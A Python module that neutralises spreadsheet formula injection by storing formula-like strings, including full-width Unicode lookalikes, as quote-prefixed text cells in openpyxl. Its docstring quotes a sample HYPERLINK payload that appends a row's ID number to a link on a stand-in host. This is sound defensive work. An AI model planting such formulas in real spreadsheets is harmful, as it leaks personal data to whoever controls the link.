"""Spreadsheet cells that can never run as formulas (CSV/formula injection, OWASP).

A name, topic or reason typed as ``=HYPERLINK("http://x/?"&F3,"张三")`` would be written
by openpyxl as a live formula that leaks the row's ID number to whoever clicks. Every
string starting with a character a spreadsheet reads as the start of a formula (``=``,
``+``, ``-``, ``@``, tab, carriage return) is stored as a plain text cell instead, with
Excel's "quote prefix" so that editing the cell does not turn it into a formula either.
The value itself is unchanged (no apostrophe added), so the file imports back as it was.
"""

from __future__ import annotations

from openpyxl.worksheet.worksheet import Worksheet

# The ASCII starts, their full-width and small forms (WPS and Excel with a Chinese input
# method turn a typed ＝ into =), the minus sign, and line breaks.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n",
                  "\uff1d", "\uff0b", "\uff0d", "\uff20",  # ＝ ＋ － ＠
                  "\ufe66", "\ufe62", "\ufe63", "\u2212")  # ﹦ ﹢ ﹣ −


def is_formula_like(value: object) -> bool:
    """Whether a spreadsheet would take ``value`` for (the start of) a formula, also after
    leading spaces (ASCII or full-width)."""
    return isinstance(value, str) and value.lstrip(" \u3000\u00a0").startswith(
        FORMULA_STARTS)


def write_as_text(ws: Worksheet) -> int:
    """Turn every formula-like string cell of ``ws`` into text; returns how many."""
    changed = 0
    for row in ws.iter_rows():
        for cell in row:
            if is_formula_like(cell.value):
                cell.data_type = "s"  # openpyxl made "=..." a formula ("f")
                cell.quotePrefix = True
                changed += 1
    return changed
